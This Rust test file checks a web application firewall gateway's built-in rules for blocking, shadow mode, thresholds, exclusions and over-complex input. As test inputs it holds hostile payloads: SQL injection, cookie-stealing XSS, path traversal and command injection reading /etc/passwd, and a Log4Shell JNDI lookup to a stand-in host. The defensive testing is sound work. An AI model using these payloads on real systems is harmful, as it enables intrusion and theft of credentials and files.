//! The rules that come with the gateway.

use portcullis_testkit::echo::Upstream;
use portcullis_testkit::gateway::Gateway;

use super::super::refusal;
use super::{get, post, rule_ids};
use crate::common::{plain, setup};

fn guarded(upstream: &Upstream, keys: &str) -> Gateway {
    plain(&upstream.url()).policy("scan", format!("{{ ruleset: builtin{keys} }}")).start()
}

#[test]
fn attacks_are_refused_without_any_rule_file() {
    let upstream = Upstream::start();
    let gateway = guarded(&upstream, "");
    for target in [
        "/?id=1%27%20or%20%271%27=%271",
        "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/?file=....//....//etc/passwd%00",
        "/?x=$%7Bjndi:ldap://x.example/a%7D",
    ] {
        assert_eq!(refusal(&get(&gateway, target, "")), (403, "attack_detected".to_owned()), "{target}");
    }
    let encoded = r#"{"a":{"b":["\u003cimg src=x onerror=alert(1)\u003e"]}}"#;
    assert_eq!(post(&gateway, "application/json", encoded).status, 403);
    assert_eq!(post(&gateway, "application/x-www-form-urlencoded", "c=;cat+/etc/passwd").status, 403);
    upstream.assert_no_contact();
    let record = gateway.stop_and_audit().remove(0);
    assert_eq!(record["waf.matches"][0]["target"], "ARGS:id");
    assert!(rule_ids(&record).iter().all(|id| (100_000..101_000).contains(id)), "{record}");
    assert!(record["waf.score"].as_u64().is_some_and(|score| score >= 5), "{record}");
}

#[test]
fn ordinary_traffic_passes() {
    let upstream = Upstream::start();
    let gateway = guarded(&upstream, "");
    let prose =
        r#"{"text":"Please select a time from the list; bring O'Neil's card & the drop-off form","n":1}"#;
    assert_eq!(post(&gateway, "application/json", prose).status, 200);
    assert_eq!(get(&gateway, "/api/v1/search?q=blue+widget+with+handle&limit=20&lang=en", "").status, 200);
    let records = gateway.stop_and_audit();
    assert!(records.iter().all(|record| record.get("waf.rule_ids").is_none()), "{records:?}");
}

#[test]
fn it_can_be_shadowed_and_tuned() {
    let upstream = Upstream::start();
    let attack = "/?id=1%27%20or%20%271%27=%271";
    assert_eq!(get(&guarded(&upstream, ", mode: shadow"), attack, "").status, 200);
    assert_eq!(get(&guarded(&upstream, ", thresholds: { inbound: 1000 }"), attack, "").status, 200);
    let excluded = ", exclude: [{ rule: 100000-100999, target: \"ARGS:id\" }]";
    assert_eq!(get(&guarded(&upstream, excluded), attack, "").status, 200);
    assert_eq!(get(&guarded(&upstream, excluded), "/?other=1%27%20or%20%271%27=%271", "").status, 403);
}

/// A sequence of documents is none.
#[test]
fn json_by_lines_is_text() {
    let upstream = Upstream::start();
    let gateway = guarded(&upstream, "");
    for kind in ["application/json-seq", "application/jsonlines", "application/x-ndjson"] {
        let lines = "{\"a\":1}\n{\"a\":2}\n";
        assert_eq!(post(&gateway, kind, lines).status, 200, "{kind}");
        let attack = "{\"a\":1}\n{\"a\":\"1' union select password from users--\"}\n";
        assert_eq!(post(&gateway, kind, attack).status, 403, "{kind}");
    }
    for kind in ["application/json", "application/json ;charset=utf-8", "application/problem+json"] {
        assert_eq!(post(&gateway, kind, "{\"a\":1}\n{\"a\":2}\n").status, 400, "{kind}");
    }
}

/// However much else there is to find, what is excluded takes nothing back that nobody noted down.
#[test]
fn a_heap_of_findings_hides_no_attack_behind_an_exclusion() {
    let upstream = Upstream::start();
    let gateway = guarded(&upstream, ", exclude: [{ rule: 100103, target: \"ARGS:comment\" }]");
    let attack = "comment=1%27%20union%20select%20password%20from%20users--";
    for fillers in [0, 40, 60, 61, 62, 63, 64, 80] {
        let heap: String = (0..fillers).map(|number| format!("v{number}=a/../b&")).collect();
        assert_eq!(get(&gateway, &format!("/?{heap}{attack}"), "").status, 403, "{fillers}");
    }
}

#[test]
fn what_it_does_not_have_is_refused() {
    let upstream = Upstream::start();
    for (keys, expected) in [
        (", paranoia: 2", "the ruleset `builtin` has no paranoia levels"),
        (", thresholds: { outbound: 4 }", "the ruleset `builtin` does not look at answers"),
    ] {
        let config = plain(&upstream.url()).policy("scan", format!("{{ ruleset: builtin{keys} }}"));
        let output = setup().refuse(&config.text()).stderr;
        assert!(output.contains(expected), "{output}");
    }
}

/// Encodings one inside the other without any evidence of an attack, made to use up whatever looks for one behind them.
#[test]
fn what_cannot_be_judged_is_refused_for_a_reason_of_its_own() {
    let upstream = Upstream::start();
    let chaff = "location /*x*/|b &amp;amp;<a b=c> http://a.b/ %25 ".repeat(81);
    let body = serde_json::json!({ "text": chaff }).to_string();
    let send = |gateway: &Gateway| post(gateway, "application/json", &body);
    let gateway = guarded(&upstream, "");
    assert_eq!(refusal(&send(&gateway)), (400, "too_complex".to_owned()));
    upstream.assert_no_contact();
    let record = gateway.stop_and_audit().remove(0);
    assert_eq!((&record["reason_code"], &record["waf.refused_by"]), (&"too_complex".into(), &100_007.into()));
    let excluded = ", exclude: [{ rule: 100007, target: \"ARGS:json.text\" }]";
    for keys in [", too_complex: score", ", mode: shadow", excluded] {
        assert_eq!(send(&guarded(&upstream, keys)).status, 200, "{keys}");
    }
    // Honest text of a megabyte is read to its end.
    let text = "- **Fixed**: `name` is empty (#123); it's O'Neil &amp; sons, see [docs](https://a.example/b?c=%20d)\n";
    let body = serde_json::json!({ "text": text.repeat(10_000) }).to_string();
    assert_eq!(post(&guarded(&upstream, ""), "application/json", &body).status, 200);
}

#[test]
fn a_family_may_refuse_from_another_score_on() {
    let upstream = Upstream::start();
    let sql = "/?id=1%27%20or%20%271%27=%271";
    let gateway = guarded(&upstream, ", thresholds: { families: { sql: 1000, xpath: 1000 } }");
    assert_eq!(get(&gateway, sql, "").status, 200);
    assert_eq!(get(&gateway, "/?x=$%7Bjndi:ldap://x.example/a%7D", "").status, 403);
    assert_eq!(get(&guarded(&upstream, ""), "/?a=b/../c", "").status, 200);
    let strict = guarded(&upstream, ", thresholds: { families: { traversal: 3 } }");
    assert_eq!(get(&strict, "/?a=b/../c", "").status, 403);
    for (keys, expected) in [("{ sqli: 4 }", "did you mean `sql`?"), ("{ sql: 0 }", "refuses everything")] {
        let scan = format!("{{ thresholds: {{ families: {keys} }} }}");
        let output = setup().refuse(&plain(&upstream.url()).policy("scan", scan).text()).stderr;
        assert!(output.contains(expected), "{output}");
    }
}
